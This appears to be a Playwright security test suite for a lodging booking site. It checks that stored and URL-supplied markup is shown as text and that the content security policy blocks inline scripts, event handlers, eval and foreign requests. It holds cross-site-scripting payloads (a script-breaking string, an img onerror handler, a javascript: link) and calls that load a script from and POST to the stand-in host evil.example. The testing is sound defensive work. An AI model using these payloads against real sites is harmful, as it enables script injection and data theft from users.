import type { Page } from "@playwright/test";
import { hostile, storeHostileContent } from "#tests/support/operations/hostile-content.ts";
import { expect, test } from "../fixtures.ts";

/** No injected script ran, no injected element exists, and the given texts are visible. */
async function expectNoInjection(page: Page, texts: string[]): Promise<void> {
  for (const text of texts) await expect(page.locator("body")).toContainText(`${text} --></script><script>ran=1`);
  const found = await page.evaluate(() => ({
    ran: "ran" in window,
    images: document.querySelectorAll("img[src='/ran'], img[onerror]").length,
    scripts: [...document.scripts].filter(({ text }) => text.startsWith("ran=")).length,
    data: [...document.querySelectorAll("script[type='application/ld+json']")].map(
      ({ textContent }) => textContent ?? "",
    ),
  }));
  expect({ ...found, data: [] }).toEqual({ ran: false, images: 0, scripts: 0, data: [] });
  for (const data of found.data) JSON.parse(data);
}

test("markup in stored texts is shown as text to guests, staff and search engines", async ({ page, emptyLodge }) => {
  const { room } = await storeHostileContent(emptyLodge);
  const at = (path: string) => page.goto(`${emptyLodge.url}${path}`);
  await at("/");
  await expectNoInjection(page, ["room", "quote", "author"]);
  await at(`/service/rooms/${room._id}`);
  await expectNoInjection(page, ["room", "description", "cost", "amenity"]);
  const offer = await page.locator("script[type='application/ld+json']").allTextContents();
  expect(offer.some((text) => text.includes("room --"))).toBe(true);
  await page.getByRole("button", { name: "Book Your Stay" }).first().click();
  await expect(page.getByRole("dialog")).toContainText("room --");
  await expectNoInjection(page, []);
  await at("/service/banquet-events");
  await expectNoInjection(page, ["hall", "floor", "seats", "description"]);
});

test("markup in a URL is shown as text or not at all", async ({ page, lodge, allowErrors }) => {
  allowErrors("404");
  const text = encodeURIComponent(hostile("address"));
  for (const path of [
    `/service/rooms?checkin=${text}&adults=${text}`,
    `/${text}`,
    `/service/rooms/${text}`,
    `/admin/${text}`,
  ]) {
    await page.goto(`${lodge.url}${path}`);
    await expectNoInjection(page, []);
  }
});

test("the content security policy blocks inline scripts, event handlers and eval", { tag: "@journey" }, async ({
  page,
  lodge,
  allowErrors,
}) => {
  allowErrors("Content Security Policy", "/ran", "evil.example");
  for (const path of ["/", "/admin/login"]) {
    await page.goto(`${lodge.url}${path}`);
    const outcome = await page.evaluate(async () => {
      const script = document.createElement("script");
      script.textContent = "window.ran = 1";
      document.body.append(script);
      document.body.insertAdjacentHTML(
        "beforeend",
        '<img src="/ran" onerror="window.ran=1"><a href="javascript:ran=1">x</a>',
      );
      document.querySelector<HTMLElement>("a[href^='javascript:']")?.click();
      const foreign = document.createElement("script");
      foreign.src = "https://evil.example/x.js";
      const refused = new Promise((resolve) => foreign.addEventListener("error", resolve));
      document.body.append(foreign);
      await refused;
      let evaluated: string;
      try {
        evaluated = String(new Function("return 1")());
      } catch (error) {
        evaluated = (error as Error).name;
      }
      const posted = await fetch("https://evil.example/", { method: "POST" }).then(
        String,
        (error: Error) => error.name,
      );
      return { ran: "ran" in window, evaluated, posted };
    });
    expect(outcome).toEqual({ ran: false, evaluated: "EvalError", posted: "TypeError" });
  }
});
